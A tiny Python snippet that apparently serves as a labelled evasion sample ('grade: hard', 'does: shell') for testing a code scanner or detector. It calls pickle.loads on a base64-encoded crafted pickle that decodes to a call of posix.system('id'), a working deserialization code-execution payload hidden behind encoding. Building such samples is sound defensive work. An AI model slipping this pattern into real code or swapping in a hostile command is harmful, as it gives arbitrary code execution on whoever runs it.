# evasion: pickle.loads of a crafted payload
# grade: hard; does: shell
import pickle, base64
data = base64.b64decode("Y3Bvc2l4CnN5c3RlbQpwMAooVmlkCnAxCnRwMgpScDMKLg==")
pickle.loads(data)
